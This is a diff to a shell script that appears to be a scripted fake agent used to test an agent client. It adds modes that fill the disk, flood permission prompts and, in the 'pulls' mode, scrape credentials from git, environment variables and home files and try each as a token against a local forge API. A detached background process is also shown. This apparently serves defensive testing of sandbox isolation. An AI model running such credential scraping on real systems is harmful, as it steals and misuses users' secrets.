@@ -40,7 +40,9 @@ turn() {
         file=$(printf '%s\n' "$line" | sed -n 's/.*\(src\/[a-z]*\.txt\).*/\1/p')
         update "{\"sessionUpdate\":\"tool_call\",\"toolCallId\":\"c1\",\"title\":\"$file\",\"kind\":\"edit\",\"status\":\"pending\"}"
         permission c1
-        case $reply in *'"optionId":"yes"'*) write "$tree/$file" 'hello\n' ;; esac
+        greeting=hello
+        case $line in *'ci/style'*) greeting='hello!' ;; esac
+        case $reply in *'"optionId":"yes"'*) write "$tree/$file" "$greeting\\n" ;; esac
         message 'I corrected the greeting.'
         done_now
         ;;
@@ -62,7 +64,7 @@ turn() {
         write "$tree/src/lib.rs" 'pub fn fixed() {}\n'
         done_now
         ;;
-    grow)
+    grow | resume)
         n=$(ls | wc -l)
         write "$tree/file$((n)).txt" 'more\n'
         done_now
@@ -78,6 +80,11 @@ turn() {
         write "$tree/notes.txt" 'half of it\n'
         message 'NEEDS A PERSON: '
         message 'which of the two?'
+        done_now
+        ;;
+    nothing-then)
+        [ -e made.txt ] && message 'It is as it should be.'
+        : >made.txt
         done_now
         ;;
     nothing)
@@ -169,6 +176,49 @@ turn() {
         [ -e "$signs" ] || setsid sleep 98765 >/dev/null 2>&1 </dev/null &
         done_now
         ;;
+    hole)
+        truncate -s 10G hole.bin
+        done_now
+        ;;
+    large)
+        head -c 67108864 /dev/zero >large.bin
+        done_now
+        ;;
+    crowd)
+        seq 3000 | xargs touch
+        done_now
+        ;;
+    begs)
+        for kind in read edit delete move search execute think fetch switch_mode other nonsense; do
+            update "{\"sessionUpdate\":\"tool_call\",\"toolCallId\":\"$kind\",\"title\":\"$kind\",\"kind\":\"$kind\",\"status\":\"pending\"}"
+            permission "$kind"
+            case $reply in *'"optionId":"yes"'*) verdict=allowed ;; *) verdict=refused ;; esac
+            printf '%s %s\n' "$kind" "$verdict" >>answers.txt
+        done
+        done_now
+        ;;
+    pulls)
+        # The prompt names the forge. Whatever could be a token is tried as one.
+        forge=$(printf '%s\n' "$line" | sed -n 's/.*\(http:\/\/127[0-9.:]*\).*/\1/p')
+        {
+            printf 'url=%s\n\n' "$forge" | GIT_TERMINAL_PROMPT=0 GIT_ASKPASS=true git credential fill 2>/dev/null
+            git config --list
+            env | sed 's/^[^=]*=//'
+            find "$HOME" "$TMPDIR" .git -type f -size -64k -exec cat {} + 2>/dev/null
+        } | tr -c 'A-Za-z0-9_.-' '\n' | grep -E '.{16,}' | sort -u >"$TMPDIR/found"
+        grep -c . "$TMPDIR/found" >found.txt
+        printf 'none\n' >>"$TMPDIR/found"
+        for n in 1 2 3 4 5 6 7 8 9 10; do
+            while IFS= read -r token; do
+                curl -s -o /dev/null -w '%{http_code}\n' -X POST -H "Authorization: token $token" -H 'Content-Type: application/json' \
+                    -d "{\"head\":\"triage/$n\",\"base\":\"main\",\"title\":\"$n\"}" "$forge/api/v1/repos/acme/widgets/pulls"
+            done <"$TMPDIR/found" >>codes.txt
+        done
+        sort codes.txt | uniq -c | sed 's/^ *//' >answers.txt
+        cp "$TMPDIR/found" candidates.txt
+        rm codes.txt
+        done_now
+        ;;
     big)
         i=0
         while [ $i -lt 400 ]; do : >"f$i"; i=$((i + 1)); done
@@ -185,7 +235,9 @@ while IFS= read -r line; do
     *'"method":"initialize"'*)
         version=1
         [ "$mode" = old ] && version=7
-        answer "{\"protocolVersion\":$version,\"agentInfo\":{\"name\":\"scripted\",\"version\":\"0.1\"},\"agentCapabilities\":{}}"
+        can=
+        [ "$mode" = resume ] && can='"loadSession":true'
+        answer "{\"protocolVersion\":$version,\"agentInfo\":{\"name\":\"scripted\",\"version\":\"0.1\"},\"agentCapabilities\":{$can}}"
         ;;
     *'"method":"session/new"'*)
         if [ "$mode" = signed-out ]; then
@@ -196,6 +248,11 @@ while IFS= read -r line; do
             [ -n "${status-}" ] && say "{\"jsonrpc\":\"2.0\",\"method\":\"_auth/status_update\",\"params\":{\"authStatus\":$status}}"
             answer '{"sessionId":"s1"}'
         fi
+        ;;
+    *'"method":"session/load"'*)
+        printf '%s' "$line" >"$signs/loaded"
+        message 'This was said before.'
+        answer null
         ;;
     *'"method":"session/prompt"'*) turn ;;
     *'"method":"session/cancel"'*) [ -n "$signs" ] && : >"$signs/cancelled" ;;
